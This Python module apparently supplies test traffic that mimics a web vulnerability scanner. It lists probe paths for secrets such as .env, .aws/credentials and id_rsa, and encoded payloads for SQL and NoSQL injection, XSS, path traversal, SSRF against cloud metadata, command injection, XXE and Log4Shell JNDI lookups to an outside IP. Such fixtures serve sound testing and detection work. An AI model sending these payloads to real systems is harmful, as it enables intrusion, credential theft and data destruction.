"""What a scanner sends: paths it guesses and payloads it injects (public, well-known ones)."""

from __future__ import annotations

FORCED_BROWSING = (
    "/admin", "/admin/", "/admin/login", "/administrator", "/.env", "/.env.production",
    "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/config.json", "/config.yml",
    "/actuator", "/actuator/env", "/actuator/health", "/actuator/heapdump", "/actuator/mappings",
    "/server-status", "/phpinfo.php", "/info.php", "/wp-login.php", "/wp-admin/", "/xmlrpc.php",
    "/swagger.json", "/swagger-ui.html", "/api-docs", "/v2/api-docs", "/v3/api-docs",
    "/openapi.json", "/graphql", "/graphiql", "/console", "/debug", "/debug/vars", "/metrics",
    "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql", "/.aws/credentials", "/id_rsa",
    "/web.config", "/WEB-INF/web.xml", "/cgi-bin/test.cgi", "/jenkins/", "/manager/html",
    "/solr/admin/", "/_cat/indices", "/api/v1/users", "/api/users", "/api/admin", "/v2/admin",
    "/v2/users", "/v2/debug", "/v2/internal", "/v3/customers", "/v2/customers/export",
    "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/crossdomain.xml",
    "/HNAP1/", "/boaform/admin/formLogin", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
)  # fmt: skip
QUERY = (
    "id=1%27%20OR%20%271%27%3D%271",
    "id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E",
    "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "page=....%2F%2F....%2F%2Fetc%2Fpasswd",
    "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "name=%24%7Bjndi%3Aldap%3A%2F%2F45.83.64.1%2Fa%7D",
    "limit=1%20AND%20SLEEP(5)",
    "sort=name%27%29%3BDROP%20TABLE%20customers--",
    "template=%7B%7B7*7%7D%7D",
    "redirect=%0d%0aSet-Cookie%3Ainjected%3D1",
    "where[$ne]=1",
)
PATH_VALUES = (
    "1'%20OR%20'1'='1",
    "1%20UNION%20SELECT%20NULL--",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fwindows%2fwin.ini",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "$%7Bjndi:ldap://45.83.64.1/x%7D",
    "1;ls%20-la",
    "-1",
    "99999999999999999999",
)
JSON_BODIES = (
    b'{"username":"admin\' OR 1=1--","password":"x"}',
    b'{"username":"admin","password":{"$ne":null}}',
    b'{"username":"<script>alert(1)</script>","password":"x"}',
    b'{"username":"${jndi:ldap://45.83.64.1/a}","password":"x"}',
    b'{"username":"admin","password":"x","role":"admin","is_admin":true}',
    b'{"username":"../../../../etc/passwd","password":"x"}',
    b'{"username":"admin\\"; DROP TABLE users;--","password":"x"}',
    b'{"username":',
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
)
